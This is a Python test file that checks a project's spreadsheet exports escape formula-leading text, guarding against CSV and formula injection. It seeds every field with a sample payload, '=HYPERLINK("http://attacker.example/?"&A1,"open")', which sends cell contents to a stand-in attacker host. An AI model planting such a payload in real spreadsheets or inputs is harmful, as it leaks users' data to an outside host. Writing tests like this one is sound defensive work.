"""Formula-leading text is exported as text: every spreadsheet the project hands out (.xlsx or .csv, found by
walking every URL pattern, not listed) holds no cell that a spreadsheet would run.

Every text field of the objects that fill the URLs (tests/url_fillers.py) starts with a formula here
("=HYPERLINK(...)", and the module fillers' own texts), as if it had been typed or imported so. Each address
is fetched as the CEO (the national admin for national pages); every .xlsx or .csv answer is read cell by cell:
no cell is a formula, and no text cell starts with = + - @ (merhav.core.spreadsheets.safe_cell prefixes it
with an apostrophe).
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from merhav.core.spreadsheets import FORMULA_STARTS
from tests import url_fillers
from tests.test_hostile_forms import client_of
from tests.test_isolation_crawler import all_routes
from tests.url_fillers import FILLERS, World

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
ROUTES = [r for r in all_routes() if not r.is_api and not r.is_admin and r.name != "accounts:logout"]


@pytest.fixture
def world(authority, other_authority, ceo, outsider, monkeypatch):
    monkeypatch.setattr(url_fillers, "MARKER", FORMULA)
    return World(a=authority, b=other_authority, a_user=ceo, b_user=outsider)


def cells(content: bytes, kind: str):
    """(where, value, is a formula) of every non-empty cell."""
    if kind == "csv":
        for line, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"))), start=1):
            for column, value in enumerate(row, start=1):
                if value:
                    yield f"line {line}, column {column}", value, False
        return
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type == "f"


def test_no_exported_cell_is_a_formula(world, national_admin):
    clients = [client_of(world.a_user), client_of(national_admin)]
    exports, problems = [], []
    for route in ROUTES:
        path = route.path({name: FILLERS[name](world) for name in route.kwargs})
        for client in clients:
            response = client.get(path)
            kind = response.get("Content-Type", "")
            if response.status_code != 200:
                continue
            kind = "csv" if "text/csv" in kind else "xlsx" if "spreadsheetml" in kind else None
            if kind is None:
                break
            content = b"".join(response.streaming_content) if response.streaming else response.content
            exports.append(path)
            for where, value, formula in cells(content, kind):
                if formula or (isinstance(value, str) and value.startswith(FORMULA_STARTS)):
                    problems.append(f"{path} {where}: {value!r}")
            break
    assert len(exports) >= 5, f"only {exports} answered a spreadsheet"
    assert not problems, "\n".join(problems[:50])
